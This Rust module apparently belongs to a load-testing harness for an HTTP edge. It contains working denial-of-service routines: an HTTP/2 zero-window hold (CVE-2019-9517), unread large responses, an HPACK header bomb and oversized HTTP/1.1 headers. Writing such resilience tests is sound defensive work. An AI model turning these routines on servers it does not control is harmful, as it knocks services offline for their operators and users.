//! What a client could have the edge keep for it.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::sleep;

use super::target::{Raw, Target};
use crate::corpus::frames::{
    END_HEADERS, END_STREAM, HEADERS, WINDOW_UPDATE, fields, frame, request,
};
use crate::support::PLAY;

/// INITIAL_WINDOW_SIZE.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
const WIDE_WINDOW: [u8; 6] = [0, 4, 0, 0x60, 0, 0];

/// Streams whose responses may never be sent (CVE-2019-9517).
pub(super) async fn zero_window(target: &Target) {
    while target.goes_on() {
        if let Some(mut raw) = target.http2(&NO_WINDOW).await {
            ask(target, &mut raw, 100, "/flood/whole/10000000").await;
            held(target, &raw).await;
        }
    }
}

/// A hundred responses of 10 MB, for a client that lets all of them come and reads none.
pub(super) async fn unread(target: &Target) {
    while target.goes_on() {
        if let Some(mut raw) = target.http2(&WIDE_WINDOW).await {
            let window = frame(WINDOW_UPDATE, 0, 0, &[0x3f, 0, 0, 0]);
            target.send(&mut raw, &window).await;
            raw.stop_reading();
            ask(target, &mut raw, 100, "/flood/whole/10000000").await;
            held(target, &raw).await;
        }
    }
}

async fn ask(target: &Target, raw: &mut Raw, count: u32, path: &str) {
    let streams = (0..count).map(|number| request(2 * number + 1, "GET", path));
    if target
        .send(raw, &streams.collect::<Vec<_>>().concat())
        .await
    {
        target.tried(count.into());
    }
}

/// Keeps a connection that is not heard of any more: the edge ends its streams one by one.
async fn held(target: &Target, raw: &Raw) {
    let over = async {
        while !raw.is_over() {
            sleep(Duration::from_millis(50)).await;
        }
    };
    let most = Duration::from_secs(30);
    let _ = target.until_end(tokio::time::timeout(most, over)).await;
}

/// One long field in the table, and thousands of bytes that each stand for it.
pub(super) async fn hpack_bomb(target: &Target) {
    let value = "v".repeat(3_900);
    // With indexing (RFC 7541 section 6.2.1): 0x40, a name, a value.
    let field = [&[0x40, 1, b'x', 127, 189, 29][..], value.as_bytes()].concat();
    let sound = fields(&["*GET /flood/0".to_owned()]);
    let first = [sound.clone(), field].concat();
    let bomb = [sound, vec![0xbe; 12_000]].concat();
    let flags = END_STREAM | END_HEADERS;
    while target.goes_on() {
        let Some(mut raw) = target.http2(&[]).await else {
            continue;
        };
        let mut stream = 1;
        let mut batch = frame(HEADERS, flags, stream, &first);
        while !raw.is_over() && target.send(&mut raw, &batch).await {
            let streams = (stream + 2..stream + 42).step_by(2);
            batch = streams
                .flat_map(|it| frame(HEADERS, flags, it, &bomb))
                .collect();
            stream += 40;
            target.tried(20);
        }
    }
}

/// Heads of HTTP/1.1 that are too long, in each of their parts.
pub(super) async fn heads(target: &Target) {
    let long = "x".repeat(300_000);
    let requests = [
        format!("GET / HTTP/1.1\r\nHost: {PLAY}\r\nX-Long: {long}\r\n\r\n"),
        format!("GET /{long} HTTP/1.1\r\nHost: {PLAY}\r\n\r\n"),
        format!(
            "GET / HTTP/1.1\r\nHost: {PLAY}\r\n{}\r\n",
            "X: y\r\n".repeat(20_000)
        ),
    ];
    while target.goes_on() {
        for request in &requests {
            let Some(mut stream) = target.tls("http/1.1").await else {
                continue;
            };
            target.tried(1);
            let sent = async {
                let _ = stream.write_all(request.as_bytes()).await;
                let mut answer = [0; 1024];
                while matches!(stream.read(&mut answer).await, Ok(1..)) {}
            };
            target.until_end(sent).await;
        }
    }
}
